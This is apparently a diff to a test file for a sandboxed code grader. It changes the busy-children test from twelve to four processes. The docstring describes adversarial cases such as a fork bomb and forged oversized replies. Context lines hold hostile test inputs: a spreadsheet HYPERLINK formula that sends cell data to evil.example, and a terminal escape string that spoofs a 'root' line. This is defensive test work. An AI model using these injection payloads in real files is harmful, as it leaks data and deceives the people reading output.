@@ -12,9 +12,9 @@ does) holds an honest submission and:
   plus ``MEMORY_MARGIN``; ``c2_fork_bomb``: ``tanh_grad`` and four children fork and start
   threads for ever, ignoring every refusal: stopped at ``--max-processes`` with a reason, and
   the sandbox uid never runs more tasks than that (sampled from outside, via /proc);
-  ``c2_busy_children``: twelve children spin for 2.5 s: together they get at most one core
-  (``CPU_MARGIN``), measured from outside, and the submission keeps full marks (twelve, so
-  that without the quota they would take more than that even from a loaded host);
+  ``c2_busy_children``: four children spin for 2.5 s: together they get at most one core
+  (``CPU_MARGIN``), measured from outside (their cgroup's CPU weight raised, so that without
+  the quota they would take more even from a loaded host), and the submission keeps full marks;
 - (3) ``c3_many_references``: ``tanh_grad`` forges a reply that references one 64 MiB array
   80 times; ``c3_never_reads``: ``numerical_gradient`` asks for the test's function with a
   256 MiB argument and never reads the answer: both lose that test only, with a reason, and
@@ -82,7 +82,7 @@ MAX_PROCESSES = DEFAULTS.max_processes      # the batches run with the default -
 # it, measured from /proc (clock ticks of 10 ms at each end of a window of >= 1 s, the CFS
 # quota's own slack).
 CPU_MARGIN = 0.2
-BUSY_PREFIX, BUSY_CHILDREN = "bfsbusy", 12
+BUSY_PREFIX, BUSY_CHILDREN = "bfsbusy", 4
 MODE = probe()
 HYPERLINK = '=HYPERLINK("http:evil.example?"&A1,"open")'   # (a folder name has no slash)
 ESCAPES = "\x1b[2J\x1b[31mmallory\nroot"
